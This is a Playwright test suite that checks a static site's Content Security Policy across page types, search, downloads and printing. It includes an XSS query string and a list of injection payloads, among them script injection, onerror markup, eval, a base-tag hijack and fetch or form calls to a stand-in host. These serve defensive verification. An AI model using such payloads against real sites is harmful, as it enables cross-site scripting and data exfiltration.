"""The policy in a real browser: on every type of page and with everything a page can do, it stops nothing of ours; nothing is kept."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import urljoin, urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Download, Page

from built import BuiltSite, serve
from plan import Plan
from plan.policy import READING

WITNESS = """
  window.stopped = [];
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => stopped.push(`${violatedDirective} ${blockedURI}`));
  window.print = () => stopped.printed = true;
  Object.defineProperty(navigator, 'share', { value: async ({ url }) => { stopped.shared = url; } });
"""
KEPT = """async () => [...Object.keys(localStorage), ...Object.keys(sessionStorage), ...(await indexedDB.databases()).map(({ name }) => name),
  ...(globalThis.caches ? await caches.keys() : []), ...(await navigator.serviceWorker?.getRegistrations() ?? []).map(({ scope }) => scope)]"""


@dataclass
class Reader:
    """Somebody who reads, and all that was said, asked elsewhere or stopped meanwhile."""

    context: BrowserContext
    base: str
    faults: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.context.add_init_script(WITNESS)
        self.context.set_default_timeout(8000)
        self.page: Page = self.context.new_page()
        self.page.on("console", lambda message: self._said(message) if message.type in ("error", "warning") else None)
        self.page.on("pageerror", lambda error: self.faults.append(str(error)))
        self.page.on("requestfailed", lambda request: self._failed(request.url))
        self.page.on("request", lambda request: self._asked(request.url))

    def _said(self, message: ConsoleMessage) -> None:
        self._note(f"{message.text} {message.location.get('url', '')}")

    def _failed(self, url: str) -> None:
        self._note(f"failed {url}")

    def _note(self, told: str) -> None:
        """From a folder Chromium loads no font ahead of its style sheet, says so, and then loads it all the same."""
        if self.base.startswith("http") or ".woff2" not in told or "Content Security Policy" in told:
            self.faults.append(told)

    def _asked(self, url: str) -> None:
        if not url.startswith(("blob:", self.base)) and (urlsplit(url).scheme, urlsplit(url).netloc) != urlsplit(self.base)[:2]:
            self.faults.append(f"asked {url}")

    def open(self, url: str) -> Page:
        """A page of the site, as a folder's reader names it too."""
        self.close()
        path, asked, query = url.partition("?")
        self.page.goto(self.base + (path + "index.html" if not path or path.endswith("/") else path) + asked + query)
        return self.page

    def close(self) -> None:
        """Leave the page, having looked at what the policy stopped on it."""
        if self.page.url != "about:blank":
            self.faults += [f"{self.page.url}: {stopped}" for stopped in self.page.evaluate("stopped")]


@pytest.fixture(params=["served", "folder"])
def reader(browser: Browser, repo_site: BuiltSite, request: pytest.FixtureRequest) -> Iterator[Reader]:
    server = serve(repo_site.folder)
    base = next(server) if request.param == "served" else repo_site.folder.as_uri() + "/"
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    found = Reader(context, base)
    yield found
    found.close()
    kept = found.page.evaluate(KEPT) if request.param == "served" else found.page.evaluate("() => [...Object.keys(localStorage), ...Object.keys(sessionStorage)]")
    cookies = context.cookies()
    context.close()
    next(server, None)
    assert not found.faults, "\n".join(found.faults)
    assert cookies == []
    assert kept == [entry.key for entry in READING] == []


def page_types(site: BuiltSite, most: int = 1) -> list[str]:
    """The first addresses of every type, read off the pages themselves."""
    seen: dict[str, list[str]] = {}
    for url, page in site.pages.items():
        seen.setdefault(page.find("body").get("class", url), []).append(url)
    return [url for urls in seen.values() for url in urls[:most]]


def test_every_type_of_page(reader: Reader, repo_site: BuiltSite) -> None:
    urls = page_types(repo_site)
    assert len(urls) > 18
    for url in urls:
        assert reader.open(url).locator("h1").first.is_visible(), url
        assert reader.page.evaluate("document.fonts.ready.then(() => [...document.fonts].filter(({ status }) => status === 'loaded').length)"), url
        assert reader.page.evaluate("document.documentElement.classList.contains('js')"), url


def test_searching(reader: Reader, real: Plan) -> None:
    """The box in a header, suggestions, the search page, its filters, more results, a query that is markup."""
    page = reader.open("toan-van/")
    page.keyboard.press("/")
    page.keyboard.type(real.agencies[5].name)
    page.locator("[role=option]").first.wait_for()
    page.keyboard.press("Enter")
    page.locator("[data-search-results] .result").first.wait_for()
    page.locator("[data-search-facets] input, [data-search-facets] select").first.wait_for(state="attached")
    page = reader.open("tim-kiem/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E%20h%E1%BB%97%20tr%E1%BB%A3")
    page.locator("[data-search-results] a").first.wait_for()
    page.locator("[data-search-facets] input[type=checkbox]").first.check()


def test_the_register(reader: Reader) -> None:
    """Narrowed, ordered, saved in both forms."""
    page = reader.open("tra-cuu/")
    page.locator("th[data-sort] button").first.click()
    page.locator("form.narrow input[type=search], form.narrow input[name=q]").first.fill("thực hiện")
    for kind in ("csv", "xlsx"):
        with page.expect_download() as download:
            page.locator(f"[data-take={kind}]").click()
        assert download.value.path().stat().st_size > 200


def test_reading_aloud_taking_along_and_printing(reader: Reader, real: Plan) -> None:
    """Explanations of abbreviations, citations copied and shared, printing, contents, dates of deadlines."""
    page = reader.open("toan-van/")
    page.locator("a.abbr").first.hover()
    page.locator("[data-tip-box]").wait_for()
    page.locator(".cite summary").first.click()
    for button in page.locator(".cite[open] .copies button").all():
        button.click()
    page = reader.open(real.page_of(real.responsibilities[0]))
    for button in page.locator("[data-print]:visible").all():
        button.click()
        assert page.evaluate("stopped.printed")
    reader.open("thoi-han/").locator("[data-next]:visible").first.wait_for()


def test_files_to_take_away(reader: Reader, repo_site: BuiltSite) -> None:
    """One link of each kind of file, followed as a reader does: the very file is saved, or shown with nothing refused."""
    reader.open("du-lieu/")
    hrefs = repo_site.page("du-lieu/").xpath("//main//a/@href")
    links = {href.rpartition(".")[2]: href for href in hrefs if "." in href.rpartition("/")[2] and "://" not in href}
    assert {"csv", "json", "pdf", "txt", "xlsx", "xml", "zip"} <= set(links)
    saved = {kind for kind, href in links.items() if _is_saved(reader, repo_site, href)}
    assert {"csv", "xlsx", "zip"} <= saved < set(links)


def _is_saved(reader: Reader, site: BuiltSite, href: str) -> bool:
    """Follows a link of the page of data in a tab of its own; whether its file was saved, not shown."""
    tab = reader.context.new_page()
    saved: dict[str, Download] = {}
    answers: dict[str, int] = {}
    tab.on("download", lambda download: saved.update({download.url: download}))
    tab.on("request", lambda request: None if request.url.startswith("chrome") else reader._asked(request.url))
    tab.on("response", lambda answer: answers.update({answer.url: answer.status}))
    tab.on("console", lambda message: reader.faults.append(f"{href}: {message.text}") if "Content Security Policy" in message.text else None)
    page = f"{reader.base}du-lieu/index.html"
    target = urljoin(page, href)
    tab.goto(page)
    tab.locator(f'main a[href="{href}"]').first.click()
    for _ in range(80):
        if saved or tab.url == target:
            break
        tab.wait_for_timeout(100)
    if saved:
        assert saved[target].path().read_bytes() == site.path(href.removeprefix("../")).read_bytes(), href
    else:
        assert (tab.url, answers.get(target)) == (target, 200), href
    tab.close()
    return bool(saved)


INJECTED = {
    "inline script": "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.head.append(s)",
    "markup": "document.body.innerHTML = '<img src=x onerror=\"window.ran = 1\">'",
    "handler": "const b = document.createElement('b'); b.setAttribute('onclick', 'window.ran = 1'); document.body.append(b); b.click()",
    "script of others": "const s = document.createElement('script'); s.src = 'https://else.example/x.js'; document.head.append(s)",
    "eval": "setTimeout('window.ran = 1')",
    "frame": "const f = document.createElement('iframe'); f.src = 'tim-kiem/index.html'; document.body.append(f)",
    "word to others": "fetch('https://else.example/?word').catch(() => {})",
    "picture of others": "new Image().src = 'https://else.example/x.png'",
    "base": "const b = document.createElement('base'); b.href = 'https://else.example/'; document.head.prepend(b)",
    "form": "const f = document.createElement('form'); f.action = 'https://else.example/'; document.body.append(f); f.submit()",
    "another namer of scripts": "trustedTypes.createPolicy('other', { createScriptURL: (x) => x })",
    "a namer twice": "trustedTypes.createPolicy('search', { createScriptURL: (x) => x })",
}  # fmt: skip


@pytest.mark.parametrize("way", ["served", "folder"])
def test_what_gets_in_does_not_run(browser: Browser, real_site: BuiltSite, way: str) -> None:
    """Whatever slipped past every other guard: the browser stops it, from a folder too."""
    server = serve(real_site.folder)
    base = next(server) if way == "served" else real_site.folder.as_uri() + "/"
    context = browser.new_context()
    context.add_init_script(WITNESS)
    page = context.new_page()
    left: list[str] = []
    page.route("https://else.example/**", lambda route: left.append(route.request.url))
    for name, code in INJECTED.items():
        page.goto(f"{base}index.html")
        page.evaluate(f"() => {{ try {{ {code} }} catch (error) {{}} }}")
        page.wait_for_timeout(50)
        assert page.evaluate("stopped.length") > 0, name
        assert page.evaluate("window.ran") is None, name
    context.close()
    next(server, None)
    assert left == []
